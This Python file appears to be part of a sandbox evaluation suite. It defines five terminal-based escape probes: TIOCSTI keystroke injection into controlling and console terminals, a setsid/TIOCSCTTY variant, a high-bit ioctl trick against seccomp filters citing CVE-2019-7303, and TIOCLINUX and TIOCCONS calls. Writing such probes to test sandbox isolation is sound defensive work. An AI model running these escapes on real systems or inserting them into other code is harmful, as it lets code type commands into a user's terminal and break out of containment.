"""Typing into the terminal of whoever started the sandbox."""

from evaluation.sandbox.attacks.model import Attack, AttackClass

CLASS = AttackClass(
    name="terminals",
    aim="Put characters into the input of a terminal",
    weakening="no filter",
    attacks=(
        Attack(
            name="type_into_the_controlling_terminal",
            kind="run",
            code=r"""
import fcntl, os
def f(facts):
    said = []
    for path in ("/dev/tty", "/dev/console", "/dev/pts/0", "/dev/pts/1", "/dev/tty0", "/dev/tty1"):
        try:
            number = os.open(path, os.O_RDWR | os.O_NONBLOCK)
            for char in b"echo escaped\n":
                fcntl.ioctl(number, 0x5412, bytes([char]))
            return f"ESCAPED typed into {path}"
        except OSError as error:
            said.append(error.strerror)
    return f"refused: {sorted(set(said))}"
""",
        ),
        Attack(
            name="type_into_a_terminal_of_its_own",
            kind="run",
            code=r"""
import fcntl, os, select
def f(facts):
    # Where this is allowed it is allowed on an inherited terminal too.
    try:
        master, slave = os.openpty()
        fcntl.ioctl(slave, 0x5412, b"!")
        return "ESCAPED typed without being its owner"
    except OSError as error:
        said = error.strerror
    try:
        pid = os.fork()
        if pid == 0:
            try:
                os.setsid()
                fcntl.ioctl(slave, 0x540E, 0)
                fcntl.ioctl(slave, 0x5412, b"!")
                os._exit(7)
            except OSError as error:
                os._exit(error.errno + 100)
        code = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
    except OSError as error:
        return f"refused: {said}, {error}"
    return "ESCAPED typed" if code == 7 else f"refused: {os.strerror(code - 100)}"
""",
        ),
        Attack(
            name="a_request_with_high_bits",
            kind="run",
            code=r"""
import ctypes, os
def f(facts):
    # The kernel looks at 32 bits of the request, a careless filter at 64: CVE-2019-7303.
    libc, said = ctypes.CDLL(None, use_errno=True), []
    master, slave = os.openpty()
    try:
        os.setsid()
    except OSError as error:
        said.append(error.strerror)
    libc.ioctl(slave, 0x540E, 0)
    for high in (1 << 32, 1 << 40, 1 << 62):
        request = ctypes.c_ulong(high | 0x5412)
        if libc.syscall(16, slave, request, ctypes.c_char_p(b"!")) == 0:
            return f"ESCAPED typed with {high:#x}"
        said.append(os.strerror(ctypes.get_errno()))
    return f"refused: {said}"
""",
        ),
        Attack(
            name="the_consoles_clipboard",
            kind="run",
            code=r"""
import fcntl, os
def f(facts):
    said = []
    for number in [0, 1, 2, *(os.openpty())]:
        for code in (2, 3, 4, 12):
            try:
                fcntl.ioctl(number, 0x541C, bytes([code]) + bytes(16))  # TIOCLINUX
                return f"ESCAPED TIOCLINUX {code} on {number}"
            except OSError as error:
                said.append(error.strerror)
    return f"refused: {sorted(set(said))}"
""",
        ),
        Attack(
            name="redirect_the_console",
            kind="run",
            code=r"""
import fcntl, os
def f(facts):
    said = []
    for number in [0, 1, 2, *(os.openpty())]:
        try:
            fcntl.ioctl(number, 0x541D)  # TIOCCONS
            return f"ESCAPED the console's output comes to {number}"
        except OSError as error:
            said.append(error.strerror)
    return f"refused: {sorted(set(said))}"
""",
        ),
    ),
)
